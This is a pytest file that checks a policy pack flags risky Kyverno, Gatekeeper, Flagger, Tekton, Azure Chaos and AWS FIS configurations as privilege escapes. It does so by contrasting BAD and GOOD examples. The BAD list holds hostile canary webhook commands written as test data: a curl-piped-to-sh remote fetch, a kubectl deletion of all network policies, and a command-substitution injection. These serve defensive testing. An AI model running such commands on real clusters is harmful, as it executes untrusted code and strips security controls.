"""Objects of policy engines and Flagger, and experiments of chaos engineering: what they change, and what is fine."""

from collections.abc import Mapping

import pytest

from .exposure_cases import refused
from .harness import Pack

PACK = Pack()
KYVERNO, NEW_KYVERNO = "kubernetes:kyverno.io/v2:", "kubernetes:policies.kyverno.io/v1:"
POLICY, NETWORKING = "kubernetes:kyverno.io/v1:ClusterPolicy", "networking.k8s.io/v1"
CANARY = "kubernetes:flagger.app/v1beta1:Canary"
CHAOS, FIS = "azure-native:chaos:Experiment", "aws:fis/experimentTemplate:ExperimentTemplate"
NAMED = {"kinds": ["Pod"], "namespaces": ["logs"], "names": ["collector-*"]}


def exception(policy: str, resources: Mapping[str, object]) -> dict[str, object]:
    return {
        "spec": {
            "exceptions": [{"policyName": policy, "ruleNames": ["host-path"]}],
            "match": {"any": [{"resources": resources}]},
        }
    }


def canary(command: str) -> dict[str, object]:
    return {"spec": {"analysis": {"webhooks": [{"name": "t", "url": "http://tester/", "metadata": {"cmd": command}}]}}}


def chaos(name: str, **parameters: str) -> dict[str, object]:
    action = {"name": name, "type": "continuous", "parameters": [{"key": k, "value": v} for k, v in parameters.items()]}
    return {"properties": {"steps": [{"branches": [{"actions": [action]}]}]}}


def fault(action: str, **parameters: str) -> dict[str, object]:
    return {"actions": [{"actionId": action, "parameters": [{"key": k, "value": v} for k, v in parameters.items()]}]}


def generated(kind: object, spec: Mapping[str, object], version: str = "v1", **more: object) -> dict[str, object]:
    rule = {"apiVersion": version, "kind": kind, "name": "base", "data": {"spec": spec}, **more}
    return {"spec": {"rules": [{"name": "base", "generate": rule}]}}


def modify(field: str, value: str, operation: str = "addOrReplace") -> dict[str, object]:
    operations = [{"operation": operation, "field": field, "value": value}]
    return {"policyRule": {"then": {"effect": "modify", "details": {"operations": operations}}}}


ENDED = {"key": "{{ target.status.phase }}", "operator": "Equals", "value": "Succeeded"}


def cleanup(kinds: list[str], *conditions: Mapping[str, object]) -> dict[str, dict[str, object]]:
    match = {"any": [{"resources": {"kinds": kinds}}]}
    return {"spec": {"schedule": "0 3 * * *", "match": match, "conditions": {"all": list(conditions)}}}


RULE = "urn:csci:microsoft:networkSecurityGroup:securityRule/1.1"
DEFINITION = "azure-native:authorization:PolicyDefinition"
BAD = [
    (DEFINITION, modify("tags['cost-centre']", "cc-9999")),
    (DEFINITION, modify("tags.owner", "", "remove")),
    (DEFINITION, modify("tags[concat('cost', '-centre')]", "cc-9999")),
    (f"{KYVERNO}PolicyException", exception("*", NAMED)),
    (f"{KYVERNO}PolicyException", exception("pods", {"kinds": ["Pod"]})),
    (f"{KYVERNO}PolicyException", exception("pods", {"kinds": ["Pod"], "namespaces": ["*"]})),
    (f"{NEW_KYVERNO}PolicyException", {"spec": {"policyRefs": [{"name": "p", "kind": "ValidatingPolicy"}]}}),
    (POLICY, generated("Secret", {})),
    (POLICY, generated([], {})),
    (POLICY, generated("NetworkPolicy", {"podSelector": {}, "ingress": [{}]}, NETWORKING)),
    (POLICY, generated("NetworkPolicy", {"podSelector": {}, "egress": [{}]}, NETWORKING)),
    (POLICY, generated("NetworkPolicy", {}, NETWORKING, clone={"name": "base", "namespace": "templates"})),
    (POLICY, generated("ResourceQuota", {}, "example.ae/v1")),
    (POLICY, {"spec": {"rules": [{"generate": {"foreach": [{"kind": "ResourceQuota", "apiVersion": "v1"}]}}]}}),
    ("kubernetes:tekton.dev/v1:TaskRun", {"spec": {"taskRef": {"name": "deploy"}}}),
    ("kubernetes:tekton.dev/v1:Task", {"spec": {"steps": [{"ref": {"name": "deploy"}}]}}),
    ("kubernetes:tekton.dev/v1:Task", {"spec": {"steps": [{"ref": {"resolver": "git"}}]}}),
    (f"{NEW_KYVERNO}NamespacedMutatingPolicy", {"spec": {}}),
    (f"{NEW_KYVERNO}DeletingPolicy", {"spec": {}}),
    (f"{KYVERNO}ClusterCleanupPolicy", {"spec": {}}),
    (f"{KYVERNO}ClusterCleanupPolicy", cleanup(["Pod"])),
    (f"{KYVERNO}ClusterCleanupPolicy", cleanup(["Pod", "NetworkPolicy"], ENDED)),
    (f"{KYVERNO}ClusterCleanupPolicy", cleanup(["*"], ENDED)),
    (f"{KYVERNO}ClusterCleanupPolicy", cleanup(["Pod"], {**ENDED, "value": ["Succeeded", "Running"]})),
    (f"{KYVERNO}ClusterCleanupPolicy", cleanup(["Pod"], {**ENDED, "operator": "NotEquals"})),
    (f"{KYVERNO}ClusterCleanupPolicy", cleanup(["Pod"], {**ENDED, "key": "{{ target.metadata.name }}"})),
    (f"{KYVERNO}ClusterCleanupPolicy", {"spec": {**cleanup(["Pod"], ENDED)["spec"], "conditions": {"any": [ENDED]}}}),
    (f"{KYVERNO}ClusterCleanupPolicy", {"spec": {"match": {}, "conditions": {"all": [ENDED]}}}),
    (
        f"{KYVERNO}ClusterCleanupPolicy",
        {
            "spec": {
                "match": {"any": [{"resources": {"kinds": ["Pod"]}}, {"subjects": []}]},
                "conditions": {"all": [ENDED]},
            }
        },
    ),
    ("kubernetes:config.gatekeeper.sh/v1alpha1:Config", {"spec": {"match": [{"excludedNamespaces": ["*"]}]}}),
    (CANARY, canary("kubectl delete networkpolicy --all")),
    (CANARY, canary("curl -s http://x/ | sh")),
    (CANARY, canary("hey http://x/ && $(cat /tmp/x)")),
    (CHAOS, chaos(RULE, action="Allow")),
    (CHAOS, chaos("urn:csci:microsoft:automation:startRunbook/1.0")),
    (FIS, fault("aws:ssm:send-command", documentArn="arn:aws:ssm:me-central-1::document/AWS-RunShellScript")),
    (FIS, fault("aws:eks:inject-kubernetes-custom-resource")),
]
GOOD = [
    (DEFINITION, modify("tags['cost-centre']", "[resourceGroup().tags['cost-centre']]")),
    (DEFINITION, modify("tags['patch-window']", "sunday")),
    (f"{KYVERNO}PolicyException", exception("pods", NAMED)),
    (f"{NEW_KYVERNO}PolicyException", {"spec": {
        "policyRefs": [{"name": "p", "kind": "ValidatingPolicy"}],
        "matchConditions": [{"name": "n", "expression": "object.metadata.name == 'collector'"}]}}),
    (f"{NEW_KYVERNO}ValidatingPolicy", {"spec": {}}),
    (f"{KYVERNO}ClusterCleanupPolicy", cleanup(["Pod"], ENDED)),
    (f"{KYVERNO}CleanupPolicy", cleanup(["Pod"], {**ENDED, "operator": "AnyIn", "value": ["Succeeded", "Failed"]})),
    (POLICY, generated("NetworkPolicy", {"podSelector": {}, "policyTypes": ["Ingress"]}, NETWORKING, synchronize=True)),
    (POLICY, generated("ResourceQuota", {"hard": {"pods": "10"}})),
    (POLICY, generated("LimitRange", {"limits": []})),
    ("kubernetes:tekton.dev/v1:Task", {"spec": {"steps": [{"name": "a", "image": "registry.k8s.io/pause:3.10"}]}}),
    (f"{NEW_KYVERNO}NamespacedImageValidatingPolicy", {"spec": {}}),
    ("kubernetes:config.gatekeeper.sh/v1alpha1:Config", {"spec": {"match": [{"excludedNamespaces": ["kube-system"]}]}}),
    (CANARY, canary("hey -z 1m -q 10 -c 2 http://podinfo-canary.test:9898/")),
    (CANARY, canary("curl -sd 'test' http://podinfo-canary:9898/token | grep token")),
    (CHAOS, chaos(RULE, action="Deny")),
    (CHAOS, chaos("urn:csci:microsoft:virtualMachine:shutdown/1.0")),
    (CHAOS, chaos("urn:csci:microsoft:agent:cpuPressure/1.0")),
    (FIS, fault("aws:ec2:stop-instances")),
    (FIS, fault("aws:ssm:send-command", documentArn="arn:aws:ssm:me-central-1::document/AWSFIS-Run-CPU-Stress")),
]  # fmt: skip


def of_escape(token: str, props: Mapping[str, object]) -> set[str]:
    return {rule for rule in refused(token, props, PACK) if rule.startswith("FJ-ESC-")}


@pytest.mark.parametrize(("token", "props"), BAD)
def test_what_changes_others_is_refused(token: str, props: Mapping[str, object]) -> None:
    assert of_escape(token, props)


@pytest.mark.parametrize(("token", "props"), GOOD)
def test_what_only_evaluates_or_tests_passes(token: str, props: Mapping[str, object]) -> None:
    assert of_escape(token, props) == set()
